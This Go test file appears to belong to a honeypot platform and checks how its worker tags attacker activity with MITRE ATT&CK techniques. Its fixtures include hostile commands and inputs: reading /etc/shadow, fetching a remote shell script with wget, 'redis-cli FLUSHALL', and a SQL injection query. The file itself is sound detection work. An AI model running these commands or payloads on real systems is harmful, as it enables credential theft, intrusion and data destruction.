package ttp

import (
	"context"
	"encoding/json"
	"errors"
	"path/filepath"
	"reflect"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/decnet/decnet/internal/bus"
	"github.com/decnet/decnet/internal/model"
	"github.com/decnet/decnet/internal/store/sqlstore"
	"github.com/decnet/decnet/internal/ttp/attack"
)

// countingLookup counts lookups and can fail them, around the real store.
type countingLookup struct {
	next  AttackerLookup
	calls atomic.Int32
	fail  error
}

func (c *countingLookup) GetAttackerUUIDByIP(ctx context.Context, ip string) (string, error) {
	c.calls.Add(1)
	if c.fail != nil {
		return "", c.fail
	}
	return c.next.GetAttackerUUIDByIP(ctx, ip)
}

// recorder keeps what was published; failing makes every publish fail.
type recorder struct {
	mu      sync.Mutex
	topics  []string
	payload []any
	failing bool
}

func (r *recorder) Publish(_ context.Context, topic, _ string, payload any) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.failing {
		return errors.New("nats: connection closed")
	}
	r.topics = append(r.topics, topic)
	r.payload = append(r.payload, payload)
	return nil
}

type workerEnv struct {
	store  *sqlstore.Store
	lookup *countingLookup
	pub    *recorder
	w      *Worker
	stack  *Stack
}

func newWorkerEnv(t *testing.T) *workerEnv {
	t.Helper()
	ctx := context.Background()
	s, err := sqlstore.Open(ctx, sqlstore.Options{Dialect: sqlstore.DialectSQLite, DSN: filepath.Join(t.TempDir(), "d.db")})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	if err := s.Migrate(ctx); err != nil {
		t.Fatal(err)
	}
	stack, err := NewStack(ctx, StackOptions{States: s, Catalog: attack.Builtin()})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { stack.Close() })
	e := &workerEnv{store: s, lookup: &countingLookup{next: s}, pub: &recorder{}, stack: stack}
	e.w, err = NewWorker(WorkerOptions{Tagger: stack.Tagger, Tags: s, Attackers: e.lookup, Sources: s, Publisher: e.pub,
		AnchorWait: []time.Duration{5 * time.Millisecond, 10 * time.Millisecond}})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func (e *workerEnv) attacker(t *testing.T, ip string) string {
	t.Helper()
	a, err := e.store.UpsertAttacker(context.Background(), model.Attacker{IP: ip})
	if err != nil {
		t.Fatal(err)
	}
	return a.UUID
}

func envelope(t *testing.T, topic, typ string, payload any) bus.Envelope {
	t.Helper()
	raw, err := json.Marshal(payload)
	if err != nil {
		t.Fatal(err)
	}
	return bus.Envelope{Topic: topic, Type: typ, Payload: raw}
}

func TestAnchorResolution(t *testing.T) {
	ctx := context.Background()
	t.Run("a payload with an anchor is not looked up", func(t *testing.T) {
		e := newWorkerEnv(t)
		id := e.attacker(t, "203.0.113.1")
		evs, ok := e.w.NotificationEvents(ctx, envelope(t, bus.AttackerSessionEnded, "session.ended",
			map[string]any{"attacker_uuid": id, "attacker_ip": "203.0.113.1", "session_id": "s1", "commands": []string{"id"}}))
		if !ok || len(evs) != 1 || evs[0].AttackerUUID != id || e.lookup.calls.Load() != 0 {
			t.Errorf("events %+v ok %v, %d lookups", evs, ok, e.lookup.calls.Load())
		}
	})
	t.Run("an address is resolved through the attackers row", func(t *testing.T) {
		e := newWorkerEnv(t)
		id := e.attacker(t, "203.0.113.2")
		evs, ok := e.w.NotificationEvents(ctx, envelope(t, bus.AttackerSessionEnded, "session.ended",
			map[string]any{"attacker_uuid": nil, "attacker_ip": "203.0.113.2", "session_id": "s2"}))
		if !ok || evs[0].AttackerUUID != id {
			t.Errorf("events %+v ok %v", evs, ok)
		}
	})
	t.Run("the worker waits for a profiler that is behind", func(t *testing.T) {
		e := newWorkerEnv(t)
		e.w.o.AnchorWait = []time.Duration{50 * time.Millisecond, 100 * time.Millisecond, 200 * time.Millisecond}
		go func() {
			time.Sleep(20 * time.Millisecond)
			e.attacker(t, "203.0.113.3")
		}()
		if id, ok := e.w.Resolve(ctx, "203.0.113.3"); !ok || id == "" {
			t.Errorf("resolve after the row appeared: %q %v", id, ok)
		}
	})
	t.Run("an address never profiled is dropped after the bounded waits", func(t *testing.T) {
		e := newWorkerEnv(t)
		if _, ok := e.w.Resolve(ctx, "203.0.113.4"); ok {
			t.Error("resolved an unknown address")
		}
		if n := e.lookup.calls.Load(); n != 3 {
			t.Errorf("%d lookups, want 3 (one, then one per wait)", n)
		}
	})
	t.Run("the Unknown sentinel and a missing address are dropped without a lookup", func(t *testing.T) {
		e := newWorkerEnv(t)
		for _, p := range []map[string]any{{"attacker_ip": model.UnknownIP}, {"attacker_ip": ""}, {}} {
			if _, ok := e.w.NotificationEvents(ctx, envelope(t, bus.AttackerSessionEnded, "session.ended", p)); ok {
				t.Errorf("%v was not dropped", p)
			}
		}
		if n := e.lookup.calls.Load(); n != 0 {
			t.Errorf("%d lookups", n)
		}
	})
	t.Run("a failing repository drops the event after retrying", func(t *testing.T) {
		e := newWorkerEnv(t)
		e.lookup.fail = errors.New("database is locked")
		if _, ok := e.w.NotificationEvents(ctx, envelope(t, bus.AttackerSessionEnded, "session.ended",
			map[string]any{"attacker_ip": "203.0.113.5"})); ok {
			t.Error("event kept despite the failing lookup")
		}
		if n := e.lookup.calls.Load(); n != 3 {
			t.Errorf("%d lookups, want 3", n)
		}
	})
}

func commandEvent(ip, cmd string) model.Event {
	return model.Event{ID: uuid.NewString(), TS: time.Now(), Decky: "decky-01", Service: "ssh", EventType: "command",
		SrcIP: ip, SessionID: "sess-9", Fields: map[string]string{"command": cmd}}
}

func TestOnlyNewTagsArePublishedAndReplaysAddNothing(t *testing.T) {
	e := newWorkerEnv(t)
	ctx := context.Background()
	id := e.attacker(t, "203.0.113.10")
	batch := []model.Event{commandEvent("203.0.113.10", "cat /etc/shadow"), commandEvent("203.0.113.10", "ls")}
	if err := e.w.HandleStreamBatch(ctx, batch); err != nil {
		t.Fatal(err)
	}
	if len(e.pub.topics) != 2 || e.pub.topics[0] != bus.TTPTagged || e.pub.topics[1] != "ttp.rule.fired.T1003" {
		t.Fatalf("published %v", e.pub.topics)
	}
	tagged := e.pub.payload[0].(taggedPayload)
	if tagged.AttackerUUID != id || tagged.SessionID != "sess-9" || len(tagged.TagUUIDs) != 1 ||
		tagged.SubTechniquesAdded[0] != "T1003.008" {
		t.Errorf("ttp.tagged %+v", tagged)
	}
	if err := e.w.HandleStreamBatch(ctx, batch); err != nil {
		t.Fatal(err)
	}
	if len(e.pub.topics) != 2 {
		t.Errorf("a replay published again: %v", e.pub.topics)
	}
}

func TestABusErrorNeverStopsTagging(t *testing.T) {
	e := newWorkerEnv(t)
	e.pub.failing = true
	e.attacker(t, "203.0.113.11")
	ins, err := e.w.Process(context.Background(), []Event{{SourceKind: KindCommand, SourceID: "c1",
		AttackerUUID: e.w.anchorsOf(t, "203.0.113.11"), Payload: map[string]any{"command_text": "cat /etc/shadow"}}})
	if err != nil || len(ins) != 1 {
		t.Fatalf("inserted %v, err %v; want the tag stored although publishing failed", ins, err)
	}
}

// anchorsOf resolves ip for a test.
func (w *Worker) anchorsOf(t *testing.T, ip string) string {
	t.Helper()
	id, ok := w.Resolve(context.Background(), ip)
	if !ok {
		t.Fatalf("no attacker for %s", ip)
	}
	return id
}

func TestNotificationsBecomeTheProducerContractsEvents(t *testing.T) {
	e := newWorkerEnv(t)
	ctx := context.Background()
	id := e.attacker(t, "203.0.113.12")
	evs, ok := e.w.NotificationEvents(ctx, envelope(t, bus.CredentialReuseDetected, "reuse.detected", map[string]any{
		"id": "r1", "secret_sha256": "abc", "secret_kind": "password", "target_count": 3, "attacker_uuid": id,
		"services": []string{"ssh"}, "deckies": []string{"d1", "d2", "d3"}}))
	if !ok || len(evs) != 1 || evs[0].SourceKind != KindCredential || evs[0].Payload["reuse_count"] != 2 ||
		evs[0].SourceID != "reuse:r1" {
		t.Fatalf("reuse events %+v", evs)
	}
	ins, err := e.w.Process(ctx, evs)
	if err != nil || len(ins) != 1 {
		t.Fatalf("credential stuffing not tagged: %v %v", ins, err)
	}
	evs, ok = e.w.NotificationEvents(ctx, envelope(t, bus.AttackerSessionEnded, "session.ended", map[string]any{
		"attacker_ip": "203.0.113.12", "session_id": "s7", "service": "ssh",
		"commands": []map[string]any{{"command_text": "wget http://198.51.100.9/x.sh"}, {"command_text": "redis-cli FLUSHALL"}}}))
	if !ok || evs[0].SourceKind != KindSession || evs[0].SourceID != "s7" ||
		evs[0].Payload["command_text"] != "wget http://198.51.100.9/x.sh\nredis-cli FLUSHALL" {
		t.Fatalf("session events %+v", evs)
	}
	if _, ok := e.w.NotificationEvents(ctx, envelope(t, "attacker.observed", "observed", map[string]any{"attacker_uuid": id})); ok {
		t.Error("a notification without a producer contract yielded events")
	}
}

func TestHTTPRequestsAndPortForwardsFromTheStreamAreTagged(t *testing.T) {
	e := newWorkerEnv(t)
	ctx := context.Background()
	id := e.attacker(t, "203.0.113.20")
	req := model.Event{ID: uuid.NewString(), TS: time.Now(), Decky: "web-01", Service: "http", EventType: "request",
		SrcIP: "203.0.113.20", Fields: map[string]string{"method": "GET", "path": "/item.php",
			"query": "id=1' UNION SELECT username,password FROM users--", "headers": `{"User-Agent":"sqlmap/1.8"}`}}
	fwd := model.Event{ID: uuid.NewString(), TS: time.Now(), Decky: "web-01", Service: "ssh",
		EventType: "port_forward_request", SrcIP: "203.0.113.20", Fields: map[string]string{"dest_host": "10.0.0.5",
			"dest_port": "3389"}}
	if err := e.w.HandleStreamBatch(ctx, []model.Event{req, fwd}); err != nil {
		t.Fatal(err)
	}
	rows, err := e.store.ListTechniquesByAttacker(ctx, id)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	for _, r := range rows {
		got[r.TechniqueID] = true
	}
	for _, want := range []string{"T1190", "T1090"} {
		if !got[want] {
			t.Errorf("%s not tagged; rollup %+v", want, rows)
		}
	}
}

func TestTheDefaultAnchorWaitStaysInsideTheStreamsAckWait(t *testing.T) {
	var total time.Duration
	for _, d := range DefaultAnchorWait {
		total += d
	}
	// Tagging and storing the batch after the waits needs time too.
	if total > bus.DefaultAckWait-10*time.Second {
		t.Errorf("anchor waits add up to %s; a batch waiting that long nears the %s ack wait and is redelivered",
			total, bus.DefaultAckWait)
	}
}

func TestParseHeaderMapReadsTheDecoyShapeAndFallsBack(t *testing.T) {
	cases := map[string]map[string]any{
		`{"Host":"a","User-Agent":"curl/8"}`: {"Host": "a", "User-Agent": "curl/8"},
		`{}`:                                 {},
		`{"a":"1","a":"2"}`:                  {"a": "2"},
		`{"a":"x\"y"}`:                       {"a": `x"y`},
		`{"a": "spaced"}`:                    {"a": "spaced"},
		`{"a":1}`:                            {"a": float64(1)},
		`not json`:                           {},
		``:                                   {},
		`null`:                               {},
	}
	for raw, want := range cases {
		if got := parseHeaderMap(raw); !reflect.DeepEqual(got, want) {
			t.Errorf("parseHeaderMap(%q) = %v, want %v", raw, got, want)
		}
	}
}

func FuzzParseHeaderMap(f *testing.F) {
	for _, s := range []string{`{"Host":"a","X":"b"}`, `{}`, `{"a":"\u00e9"}`, "{\"a\":\"\xff\"}", `{"a":"b",}`, `{"a":"b"}x`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		got := parseHeaderMap(raw)
		want := map[string]any{}
		var m map[string]any
		if raw != "" && json.Unmarshal([]byte(raw), &m) == nil && m != nil {
			want = m
		}
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("parseHeaderMap(%q) = %v, encoding/json %v", raw, got, want)
		}
	})
}
